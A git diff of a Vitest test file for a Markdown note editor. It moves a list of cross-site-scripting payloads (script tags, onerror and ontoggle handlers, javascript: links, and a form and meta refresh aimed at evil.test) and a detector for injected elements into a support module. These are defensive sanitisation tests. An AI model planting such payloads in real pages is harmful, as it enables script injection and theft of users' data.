@@ -1,101 +1,19 @@
 // @vitest-environment jsdom
-// in a process of its own: it looks for elements in the whole document
-import { afterEach, beforeAll, expect, test, vi } from 'vitest';
-import { drawMath } from './views/draw-math.ts';
+import { expect, test } from 'vitest';
+import { expectText, fromHtml, payloads, places, watchDocument } from './test-support/html-in-notes.ts';
 import { startEditor } from './views/test-support/start-editor.ts';
 
-// so that formulas are drawn at once
-beforeAll(async () => {
-  const element = document.createElement('span');
-  drawMath(element, 'x', false);
-  await vi.waitFor(() => expect(element.querySelector('.katex')).not.toBeNull(), { timeout: 15_000 });
-});
-afterEach(() => {
-  vi.restoreAllMocks();
-  document.body.replaceChildren();
-});
+watchDocument();
 
-const payloads: readonly string[] = [
-  '<script>window.hit = 1</script>',
-  '<img src=x onerror="window.hit = 1">',
-  '<svg onload="window.hit = 1"></svg>',
-  '<iframe srcdoc="<script>parent.hit = 1</script>"></iframe>',
-  '<style>body { display: none }</style>',
-  '<details open ontoggle="window.hit = 1"><summary>s</summary></details>',
-  '<form action="https://evil.test"><input name="secret"><button>send</button></form>',
-  '<object data="https://evil.test"></object>',
-  '<video src=x onerror="window.hit = 1"></video>',
-  '<base href="https://evil.test/">',
-  '<meta http-equiv="refresh" content="0;url=https://evil.test">',
-  '<a href="javascript:window.hit = 1" onclick="window.hit = 1">go</a>',
-  '<!-- <script>window.hit = 1</script> -->',
-  '"><script>window.hit = 1</script>',
-];
-
-/** Where Markdown takes a text, and what else could be made of it there. */
-const places: readonly (readonly [name: string, (html: string) => string])[] = [
-  ['a block', (html) => `before\n\n${html}\n\nafter\n`],
-  ['a line', (html) => `before ${html} after\n`],
-  ['an item', (html) => `- ${html}\n- b ${html}\n`],
-  ['a quote', (html) => `> ${html}\n`],
-  ['a heading', (html) => `# a ${html}\n`],
-  ['a cell', (html) => `| ${html} | b |\n| --- | --- |\n| c | d ${html} |\n`],
-  ['bold text', (html) => `**a ${html} b**\n`],
-  ['a title', (html) => `[a](b.md '${html}') ![c](d.png '${html}')\n`],
-  ['the text of a link', (html) => `[a ${html} b](c.md)\n`],
-  ['the description of an image', (html) => `![a ${html} b](c.png)\n`],
-  ['an address', (html) => `[a](<${html.replace(/[<>]/g, '')}>) ![b](<${html.replace(/[<>]/g, '')}>)\n`],
-  ['code', (html) => `\`${html}\`\n\n\`\`\`${html}\n${html}\n\`\`\`\n`],
-  ['a callout', (html) => `> [!note] ${html}\n> ${html}\n`],
-  ['a link to a note', (html) => `[[a|${html}]] ![[${html}]]\n`],
-  ['a footnote', (html) => `a[^${html.replace(/\W/g, '')}] b[^1]\n\n[^1]: ${html}\n`],
-  ['a definition', (html) => `[a]\n\n[a]: b.md '${html}'\n`],
-  ['a comment', (html) => `a %%${html}%% b\n\n%%\n${html}\n%%\n`],
-  ['a formula', (html) => `a $${html}$ b\n\n$$\n${html}\n$$\n`],
-];
-
-const elements =
-  'script, iframe, frame, object, embed, style, link, meta, base, form, details, summary, video, audio, svg:not(.katex *)';
-
-/** All elements that only the HTML of a note could have created. */
-function fromHtml(): string[] {
-  const found = [...document.querySelectorAll(elements)].map(({ outerHTML }) => outerHTML);
-  for (const element of document.body.querySelectorAll('*')) {
-    const isOurs = element.matches('.ProseMirror-separator, [type="checkbox"]');
-    if (/^(?:img|input)$/i.test(element.tagName) && !isOurs) found.push(element.outerHTML);
-    for (const { name, value } of element.attributes) {
-      if (/^on|^srcdoc$|^action$/i.test(name)) found.push(`${name}=${value}`);
-      if (/^(?:href|src)$/i.test(name) && canRun(value)) found.push(`${name}=${value}`);
-    }
-  }
-  return found;
-}
-
-/** Parses an address as a browser does, without whitespace and control characters. */
-const canRun = (address: string): boolean =>
-  /^(?:javascript|vbscript|data):/i.test([...address].filter((character) => character > ' ').join(''));
-
-for (const [name, put] of places)
-  test(`HTML of a note is shown as its source, and never becomes part of the document: in ${name}`, () => {
-    for (const html of payloads) {
-      const source = put(html);
-      const { body, editor } = startEditor(source);
-      expect(fromHtml(), source).toEqual([]);
-      // also where it was changed, drawn again and saved
-      editor.commands.insertContentAt(editor.state.doc.content.size, {
-        type: 'paragraph',
-        content: [{ type: 'text', text: html }],
-      });
-      expect(fromHtml(), source).toEqual([]);
-      const again = startEditor(body.content());
-      expect(fromHtml(), body.content()).toEqual([]);
-      expect(document.body.textContent).toContain(/\w+/.exec(html)?.[0]);
-      body.destroy();
-      again.body.destroy();
-      document.body.replaceChildren();
-    }
+test.each(places)(
+  'HTML of a note is shown as its source, and never becomes part of the document: in %s',
+  (_name, put) => {
+    const note = payloads.map(put).join('\n\n');
+    expectText(note, payloads.join(' '));
+    for (const html of payloads) expect(note).toContain(/\w+/.exec(html)?.[0]);
     expect(Reflect.get(window, 'hit')).toBeUndefined();
-  });
+  },
+);
 
 /** Pastes HTML as a browser does. */
 function pasteHtml(html: string): string {
